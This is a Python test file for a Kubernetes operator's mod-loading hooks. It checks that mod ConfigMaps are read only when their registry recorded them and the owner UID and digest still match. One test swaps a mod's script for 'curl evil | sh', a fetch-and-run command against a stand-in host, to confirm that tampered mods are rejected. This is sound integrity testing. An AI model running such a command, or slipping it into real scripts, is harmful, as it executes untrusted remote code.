"""Which mod ConfigMaps the workload controller reads for a Recipe's ``mods`` (issue 32,
``controllers/hooks.py``): by name, from what the registries' ``status.configMaps`` record
(the operator never lists ConfigMaps), only in a registry's own ``targetNamespace``, and used
only while intact (the registry's UID and the digest it recorded). Pure parts: the reads
themselves run on the testbed (``tests/operator/test_hooks_process.py``)."""

from __future__ import annotations

from typing import Any

from sparkrun_operator.api.meta import API_VERSION
from sparkrun_operator.api.recipe import RecipeSpec
from sparkrun_operator.controllers import hooks
from sparkrun_operator.plan.workload.hooksource import observed_mod
from sparkrun_operator.plan.workload.model import ObservedRecipe
from sparkrun_operator.recipe.trust import config_map_digest, recipe_digest
from sparkrun_operator.render import keys

MANIFEST = '{"name":"mods/fix-x","files":[{"key":"f0","path":"run.sh","mode":493}]}'
SPEC = {"model": "Qwen/Qwen3-0.6B", "runtime": "vllm", "runtime_config": {"mods": ["mods/fix-x", "@other/y"]}}
RECIPE = RecipeSpec.model_validate(SPEC)


def _mod_map(registry: str, uid: str, slug: str, name: str) -> dict[str, Any]:
    return {
        "metadata": {
            "name": f"{registry}-mod-{slug}",
            "namespace": "team",
            "annotations": {keys.ANNOTATION_MOD_NAME: name},
            "ownerReferences": [
                {
                    "apiVersion": API_VERSION,
                    "kind": "RecipeRegistry",
                    "name": registry,
                    "uid": uid,
                    "controller": True,
                }
            ],
        },
        "data": {"manifest.json": MANIFEST, "f0": "#!/bin/sh\necho fixed\n"},
    }


def _registry(
    name: str, *written: dict[str, Any], namespace: str = "team", recipes: Any = (), **spec: Any
) -> dict[str, Any]:
    """The registry as the ``iw_registries`` index keeps it (``_registry_view`` of the object)."""
    mods = [
        {
            "name": cm["metadata"]["name"],
            "kind": "mod",
            "item": cm["metadata"]["annotations"][keys.ANNOTATION_MOD_NAME],
            "digest": config_map_digest(cm),
        }
        for cm in written
    ]
    body = {
        "metadata": {"name": name, "uid": f"{name}-uid"},
        "spec": {"enabled": True, "targetNamespace": namespace, **spec},
        "status": {
            "commit": "c" * 40,
            "recipes": list(recipes),
            # a profile entry is not a mod: never read for mods
            "configMaps": [*mods, {"name": f"{name}-bench-p", "kind": "benchmarkProfile", "item": "p"}],
        },
    }
    return hooks._registry_view(body)


def test_the_mods_a_recipe_looks_up_and_where() -> None:
    assert hooks._lookups(RECIPE, "reg") == {"reg": {"fix-x"}, "eugr": {"fix-x"}, "other": {"y"}}
    assert hooks._lookups(RECIPE, None) == {"eugr": {"fix-x"}, "other": {"y"}}


def test_only_recorded_mods_of_that_name_in_that_namespace_are_read() -> None:
    fix = _mod_map("reg", "reg-uid", "fix-x", "mods/fix-x")
    other = _mod_map("reg", "reg-uid", "other", "mods/other")
    registry = _registry("reg", fix, other)
    assert registry["status"]["configMaps"] == [
        {"name": "reg-mod-fix-x", "item": "mods/fix-x", "digest": config_map_digest(fix)},
        {"name": "reg-mod-other", "item": "mods/other", "digest": config_map_digest(other)},
    ]
    assert hooks._to_read(registry, "team", {"fix-x"}) == ["reg-mod-fix-x"]
    assert hooks._to_read(registry, "elsewhere", {"fix-x"}) == []  # its ConfigMaps are not there
    assert hooks._to_read(_registry("reg", fix, enabled=False), "team", {"fix-x"}) == []
    # an entry whose item the status budget cut is read (after the named ones) to see its name
    cut = _registry("reg", other, fix)
    cut["status"]["configMaps"][0]["item"] = ""
    assert hooks._to_read(cut, "team", {"fix-x"}) == ["reg-mod-fix-x", "reg-mod-other"]


def test_a_mod_is_used_only_as_its_registry_wrote_it() -> None:
    fix = _mod_map("reg", "reg-uid", "fix-x", "mods/fix-x")
    registry = _registry("reg", fix)
    mod = hooks._parse("reg", registry, fix)
    assert mod is not None
    assert (mod.name, mod.config_map, mod.problem) == ("mods/fix-x", "reg-mod-fix-x", None)
    edited = {**fix, "data": {**fix["data"], "f0": "curl evil | sh"}}
    assert hooks._parse("reg", registry, edited) is None
    forged = _mod_map("reg", "another-uid", "fix-x", "mods/fix-x")
    assert hooks._parse("reg", _registry("reg", forged), forged) is None


def test_the_cache_keeps_each_commits_reads_and_the_source_offers_every_looked_up_registry() -> None:
    cache = hooks.ModCache()
    spec = RecipeSpec.model_validate(SPEC).to_wire()
    owner = {
        "apiVersion": API_VERSION,
        "kind": "RecipeRegistry",
        "name": "reg",
        "uid": "reg-uid",
        "controller": True,
    }
    entry = [{"name": "qwen", "digest": recipe_digest(spec)}]
    reg = _registry("reg", recipes=entry, trusted=True, acknowledgeTrust=True)
    eugr = _registry("eugr")
    indices = {
        "iw_recipe_owners": {("team", "qwen"): [[owner]]},
        "iw_registries": {"reg": [reg], "eugr": [eugr]},
    }
    fallback = observed_mod(
        "eugr", "mods/fix-x", "eugr-mod-fix-x", {"manifest.json": MANIFEST, "f0": "x"}, {}
    )
    cache.put(hooks._key("team", eugr), [fallback])
    assert cache.has(hooks._key("team", eugr), "eugr-mod-fix-x")
    recipe = ObservedRecipe(name="qwen", spec=RECIPE)
    found = hooks.source(cache, indices, "team", recipe, spec)
    assert found is not None
    assert found.trust.trusted, found.trust.reason
    assert found.mods == (fallback,)  # the fallback registry's mod, for the trusted recipe
    # a new commit of eugr: its earlier reads are dropped
    newer = {**eugr, "status": {**eugr["status"], "commit": "d" * 40}}
    cache.put(hooks._key("team", newer), [])
    assert cache.get(hooks._key("team", eugr)) == ()
